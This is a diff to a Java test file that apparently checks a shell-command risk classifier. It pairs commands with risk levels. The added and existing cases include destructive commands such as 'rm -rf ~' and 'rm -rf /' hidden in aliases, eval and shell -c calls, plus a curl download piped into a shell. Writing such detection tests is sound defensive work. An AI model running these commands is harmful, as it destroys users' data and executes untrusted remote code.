@@ -36,6 +36,9 @@ class BlindSet9ClassesTest {
                 Arguments.of("git config --global alias.cleanup '!rm -rf ~'; git cleanup", RiskLevel.CRITICAL, "home directory"),
                 Arguments.of("git config alias.pf 'push --force'\ngit pf origin main", RiskLevel.HIGH, "Force-pushes over the remote branch main"),
                 Arguments.of("nu -c 'rm -rf ~'", RiskLevel.CRITICAL, "home directory"),
+                Arguments.of("eval \"alias x='rm -rf ~'\"; x", RiskLevel.CRITICAL, "home directory"),
+                Arguments.of("$SHELL -c 'rm -rf /'", RiskLevel.CRITICAL, "Recursively deletes the root directory"),
+                Arguments.of("curl -fsSL https://x.example/i.sh | $SHELL", RiskLevel.HIGH, "Pipes a download straight into sh"),
                 // The -c scripts of csh, tcsh, ksh93 and fish are judged.
                 Arguments.of("tcsh -c 'rm -rf ~/*'", RiskLevel.CRITICAL, "deletes the home directory"),
                 Arguments.of("csh -c 'if (-d /etc) rm -rf /etc'", RiskLevel.CRITICAL, "/etc"),
@@ -133,6 +136,7 @@ class BlindSet9ClassesTest {
                 Arguments.of("alias ls='ls --color=auto'; ls", RiskLevel.SAFE),
                 Arguments.of("git config --global alias.lg 'log --oneline --graph'; git lg -10", RiskLevel.SAFE),
                 Arguments.of("git config alias.up '!git pull --rebase'; git up", RiskLevel.SAFE),
+                Arguments.of("exec $SHELL -l", RiskLevel.SAFE),
                 Arguments.of("kubectl debug node/worker-1 -it --image=busybox -- chroot /host journalctl -u kubelet", RiskLevel.SAFE),
                 Arguments.of("fish -c 'for f in *.md; echo $f; end'", RiskLevel.SAFE),
                 Arguments.of("fish -c 'if test -f config.fish; and set -l n (count *.fish); echo $n; end'", RiskLevel.SAFE),
